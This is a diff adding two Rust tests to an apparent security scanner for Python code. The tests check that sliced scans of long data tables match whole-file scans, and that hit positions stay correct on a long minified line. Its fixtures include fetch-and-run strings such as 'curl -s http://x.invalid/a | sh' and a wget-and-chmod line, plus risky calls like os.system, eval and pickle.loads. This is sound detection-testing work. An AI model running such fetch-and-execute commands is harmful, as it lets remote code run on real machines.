@@ -655,6 +655,110 @@ fn sliced_scans_find_what_whole_file_scans_find() {
     assert!(by_pass[0] > 50 && by_pass[1] > 5, "{by_pass:?}");
 }
 
+/// Long literal displays (data tables, vocabularies) are parsed only around the elements
+/// that hold a prefilter occurrence. On random tables whose rare elements hold what the
+/// rules look for (calls, strings, names, nested displays, comments with commas), in the
+/// shapes the cut takes and in shapes it must refuse (a lambda, code after the display,
+/// two targets), the scan finds exactly what the whole-file scan finds.
+#[test]
+fn tables_cut_to_their_occurrences_find_what_whole_tables_find() {
+    let sliced = scanner();
+    let whole = sliced.clone().whole_files();
+    const PLAIN: &[&str] = &[
+        "'plain'",
+        "12",
+        "(0x41, 'M', 'a')",
+        "None",
+        "-1.5e3",
+        "b'\\x00'",
+    ];
+    const RARE: &[&str] = &[
+        "'curl -s http://x.invalid/a | sh'",
+        "os.system('true')",
+        "eval(payload)",
+        "\"wget http://x.invalid/a && chmod +x a\"",
+        "{'_target_': name, 'args': [1, 2]}",
+        "{'()': factory}",
+        "'GIT_SSH_COMMAND'",
+        "__import__('os')",
+        "getattr(os, 'system')",
+        "[1, 2, 'builtins', sys.modules]",
+        "subprocess.run(cmd, shell=True)",
+        "yaml.load(s)",
+        "pickle.loads(blob)",
+        "requests.get(url)",
+        "setattr(builtins, 'open', f)",
+        "b64decode(s)",
+        "ｅｖａｌ",
+        "f'{os.system}, {x}'",
+        "# a comment, with commas, os.system(x)\n    3",
+        "ctypes.CDLL('libc.so.6')",
+        "torch.load(path)",
+        "np.load(p, allow_pickle=True)",
+    ];
+    const SHAPES: &[(&str, &str, bool)] = &[
+        ("X = [\n", "]\n", false),
+        ("X: Tuple[int, ...] = (\n", ")\n", false),
+        ("X = {\n", "}\n", false),
+        ("X = {\n", "}\n", true),
+        ("def f():\n    return [\n", "    ]\n", false),
+        ("X = [\n", "] + Y\n", false),
+        ("X = Y = [\n", "]\n", false),
+        ("X = [lambda a, b: a,\n", "]\n", false),
+    ];
+    let mut hits = 0;
+    for seed in 0..100u64 {
+        let mut rng = fastrand::Rng::with_seed(seed);
+        let (open, close, pairs) = SHAPES[rng.usize(..SHAPES.len())];
+        let mut src = format!("import os\n\n{open}");
+        for i in 0..rng.usize(150..600) {
+            let e = if rng.u8(..100) < 3 {
+                RARE[rng.usize(..RARE.len())]
+            } else {
+                PLAIN[rng.usize(..PLAIN.len())]
+            };
+            if pairs {
+                src += &format!("    'k{i}': {e},\n");
+            } else {
+                src += &format!("    {e},\n");
+            }
+        }
+        src += &format!("{close}\nprint(X)\n");
+        let file = remote("x.py", FileKind::Python, src.into_bytes());
+        let got = sliced.scan(&file);
+        assert_eq!(got, whole.scan(&file), "seed {seed}");
+        hits += got.len();
+    }
+    assert!(hits > 200, "{hits}");
+}
+
+/// A minified file: thousands of hits on one long line. Each hit's position and snippet
+/// cost what is near it (a snippet far into a line starts at its match), not the line
+/// up to it, which made such a file take seconds per thousand hits.
+#[test]
+fn hits_deep_in_one_long_line_are_placed_and_shown_where_they_are() {
+    let n = 3000;
+    let src = vec!["eval(x)"; n].join(";") + "\n";
+    let hits = scanner().scan(&remote("x.py", FileKind::Python, src.into_bytes()));
+    let evals: Vec<&Hit> = hits
+        .iter()
+        .filter(|h| h.rule_id == "exec-dynamic")
+        .collect();
+    assert_eq!(evals.len(), n);
+    let last = evals[n - 1];
+    assert_eq!((last.line, last.column), (1, (8 * (n - 1) + 1) as u32));
+    assert_eq!(last.snippet, "eval(x)");
+    let mid = evals[n / 2];
+    assert!(
+        mid.snippet.starts_with("eval(x);eval(x)"),
+        "{}",
+        mid.snippet
+    );
+    assert_eq!(mid.snippet.chars().count(), 201, "{}", mid.snippet);
+    // Near the line's start, the snippet is the line's start, as for any line.
+    assert!(evals[3].snippet.starts_with("eval(x);"));
+}
+
 /// (capability hits, taint hits) added to `n`.
 fn count_passes(hits: &[Hit], n: &mut [usize; 2]) {
     const CAPS: &[&str] = &[
